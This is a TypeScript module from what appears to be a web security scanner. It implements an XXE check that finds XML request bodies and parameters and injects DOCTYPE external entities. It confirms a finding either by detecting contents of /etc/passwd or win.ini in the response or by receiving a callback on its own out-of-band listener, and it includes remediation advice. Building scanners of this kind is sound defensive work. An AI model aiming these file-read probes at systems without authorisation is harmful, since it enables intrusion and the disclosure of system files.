// XXE: sends XML documents whose DOCTYPE declares an external entity, on XML request bodies (crawled
// ones, and script POSTs the page sends as application/xml) and on parameters that carry XML. Proof
// is a file signature coming back (in-band, absent from the untouched answer) or our OAST listener
// receiving the DTD/entity fetch (out-of-band). Entity expansion bombs are never sent.
import type { HttpExchange, HttpRequestSpec } from '../core/model.js';
import type { Check, CheckContext, CheckMeta, FindingDraft, OastHit } from './types.js';
import { headerValue, renderRequest, renderResponse, trySend } from './support.js';
import { findSignature } from './definitions/lfi.js';
import { probeBudget, valuePoints } from './definitions/probe-budget.js';
import { fileEntityDoc, jsonAsXml, looksLikeXml, oobDoc, refusesXml, xmlServiceLink, xmlTemplateFromPage } from './definitions/xxe.js';

export const meta: CheckMeta = {
  id: 'xxe',
  item: 'XXE',
  title: 'XML external entity injection',
  severity: 'high',
  confidence: 'certain',
  cwe: 611,
  references: [
    'https://cwe.mitre.org/data/definitions/611.html',
    'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
  ],
  remediation:
    'Configure every XML parser to refuse DOCTYPE declarations (or at least external entities and external DTDs): e.g. libxml2 without XML_PARSE_NOENT/DTDLOAD, Java "disallow-doctype-decl", .NET DtdProcessing.Prohibit, Python defusedxml. Prefer JSON where XML is not needed.',
  requestBudget: 8,
};

const FILES = [
  { systemId: 'file:///etc/passwd', name: '/etc/passwd' },
  { systemId: 'file:///c:/windows/win.ini', name: 'C:\\Windows\\win.ini' },
];
const LATE_WAIT_MS = 2000;

/** One place an XML document can go: the whole body, or one parameter's value. */
interface Target {
  url: string;
  method: string;
  parameter: string | null;
  location: FindingDraft['location'];
  template: string;
  build(doc: string): HttpRequestSpec;
  /** Not seen taking XML: a JSON endpoint's XML twin, or a GET link posted XML. */
  guess?: 'json' | 'link';
}

function asXml(spec: HttpRequestSpec, method: string, body: string): HttpRequestSpec {
  const headers = { ...(spec.headers ?? {}) };
  for (const k of Object.keys(headers)) if (k.toLowerCase() === 'content-type') delete headers[k];
  headers['Content-Type'] = 'application/xml';
  return { ...spec, method, headers, body };
}

function targetsOf(ctx: CheckContext): Target[] {
  const out: Target[] = [];
  const linked = new Set<string>();
  for (const request of ctx.requests) {
    const base = { url: request.url, method: request.method };
    if (request.bodyKind === 'xml' && request.rawBody !== undefined && looksLikeXml(request.rawBody)) {
      const spec = ctx.toSpec(request);
      out.push({ ...base, parameter: null, location: 'xml', template: request.rawBody, build: (doc) => ({ ...spec, body: doc }) });
    } else {
      const template = xmlTemplateFromPage(request, ctx.pages);
      if (template !== null) {
        const spec = ctx.toSpec(request);
        const headers = { ...(spec.headers ?? {}) };
        for (const k of Object.keys(headers)) if (k.toLowerCase() === 'content-type') delete headers[k];
        headers['Content-Type'] = 'application/xml';
        out.push({ ...base, parameter: null, location: 'xml', template, build: (doc) => ({ ...spec, headers, body: doc }) });
      }
    }
    const twin = request.bodyKind === 'json' && request.rawBody !== undefined ? jsonAsXml(request.rawBody, request.url) : null;
    if (twin !== null) {
      const spec = ctx.toSpec(request);
      out.push({ ...base, parameter: null, location: 'xml', template: twin, guess: 'json', build: (doc) => asXml(spec, request.method, doc) });
    }
    if (request.method.toUpperCase() === 'GET' && xmlServiceLink(request.url) && !linked.has(request.url.split('?')[0]!)) {
      linked.add(request.url.split('?')[0]!);
      const spec = ctx.toSpec(request);
      out.push({ url: request.url, method: 'POST', parameter: null, location: 'xml', template: '<?xml version="1.0"?><data>1</data>', guess: 'link', build: (doc) => asXml(spec, 'POST', doc) });
    }
    for (const p of valuePoints(ctx.insertionPoints(request))) {
      if (p.location === 'xml' || !looksLikeXml(p.value)) continue;
      out.push({ ...base, parameter: p.name, location: p.location, template: p.value, build: (doc) => p.build(doc) });
    }
  }
  return out;
}

function finding(t: Target, ex: HttpExchange, payload: string, proof: string, extra: Record<string, unknown>): FindingDraft {
  return {
    url: t.url,
    method: t.method,
    parameter: t.parameter,
    location: t.location,
    payload,
    evidence: { request: renderRequest(ex.request), response: renderResponse(ex.response), proof },
    extra,
  };
}

function sameAsCrawled(ctx: CheckContext, url: string, body: string): boolean {
  const crawled = ctx.pages.find((p) => p.request.url === url && p.request.method.toUpperCase() === 'GET');
  return crawled !== undefined && crawled.response.body === body;
}

function guessNote(t: Target): string {
  if (t.guess === 'json') return ' The crawl saw this endpoint take JSON only: its framework parses XML too (the JSON body was sent as XML).';
  if (t.guess === 'link') return ' The crawl saw this URL only as a GET link: it takes XML by POST.';
  return '';
}

function where(t: Target): string {
  return t.parameter === null ? 'the XML request body' : `${t.location} parameter "${t.parameter}"`;
}

async function* run(ctx: CheckContext): AsyncGenerator<FindingDraft> {
  const budget = probeBudget(ctx, meta.requestBudget);
  const targets = targetsOf(ctx);
  const pending: { t: Target; ex: HttpExchange; payload: string; id: string }[] = [];
  let done = 0;
  for (const t of targets) {
    ctx.progress?.(done++, targets.length);
    if (ctx.signal.aborted || !budget.left()) return;
    budget.spend();
    const base = await trySend(ctx, t.build(t.template));
    if (!base) continue;
    // a guessed target must take the plain document (no refusal, no not-found page, not the page a
    // GET shows, which a URL that ignores bodies answers) before entities are spent on it
    if (t.guess && (refusesXml(base.response.status) || base.response.status >= 400 || ctx.soft404.isNotFound(t.url, base.response) || (t.guess === 'link' && sameAsCrawled(ctx, t.url, base.response.body)))) continue;
    let proven = false;
    // a guessed target gets the one file of the commonest platform, then the out-of-band probe
    for (const file of t.guess ? FILES.slice(0, 1) : FILES) {
      if (findSignature(base.response.body)) break;
      if (ctx.signal.aborted || !budget.left()) return;
      const doc = fileEntityDoc(t.template, file.systemId);
      budget.spend();
      const ex = await trySend(ctx, t.build(doc));
      const sig = ex ? findSignature(ex.response.body) : null;
      if (!ex || !sig) continue;
      proven = true;
      yield finding(t, ex, doc, `${sig.matched}\nThe external entity SYSTEM "${file.systemId}" sent in ${where(t)} was expanded: the contents of ${sig.file} came back, and the answer to the untouched document does not contain them.${guessNote(t)}`, { technique: 'in-band external entity', file: sig.file, ...(t.guess ? { guessed: t.guess } : {}) });
      break;
    }
    if (proven || !ctx.oast) continue;
    if (ctx.signal.aborted || !budget.left()) return;
    const probe = ctx.oast.probe(`${t.method} ${new URL(t.url).pathname} ${t.parameter === null ? 'xml-body' : `${t.location}:${t.parameter}`}`);
    const doc = oobDoc(t.template, probe.url);
    budget.spend();
    const ex = await trySend(ctx, t.build(doc));
    if (!ex) continue;
    const hits = await ctx.oast.hits([probe.id], 0);
    if (hits.length > 0) yield oobFinding(t, ex, doc, hits);
    else pending.push({ t, ex, payload: doc, id: probe.id });
  }
  if (ctx.oast && pending.length > 0 && !ctx.signal.aborted) {
    await ctx.oast.hits(pending.map((p) => p.id), LATE_WAIT_MS);
    for (const p of pending) {
      const hits = await ctx.oast.hits([p.id], 0);
      if (hits.length > 0) yield oobFinding(p.t, p.ex, p.payload, hits);
    }
  }
  ctx.progress?.(targets.length, targets.length);
}

function oobFinding(t: Target, ex: HttpExchange, doc: string, hits: OastHit[]): FindingDraft {
  const hit = hits[0] as OastHit;
  const kind = hit.path.includes('.dtd') ? 'external DTD (parameter entity)' : 'external general entity';
  const ct = headerValue(ex.response, 'content-type') ?? 'unknown';
  return finding(
    t,
    ex,
    doc,
    `${hit.method} ${hit.path}\nOur listener received ${hit.method} ${hit.path} from ${hit.remote} for probe "${hit.label}": the XML parser behind ${where(t)} fetched the ${kind} our DOCTYPE declared (answer: HTTP ${ex.response.status}, ${ct}).${guessNote(t)}`,
    { technique: 'out-of-band external entity', oastId: hit.id, hits: hits.length, ...(t.guess ? { guessed: t.guess } : {}) },
  );
}

export const xxe: Check = { meta, run };
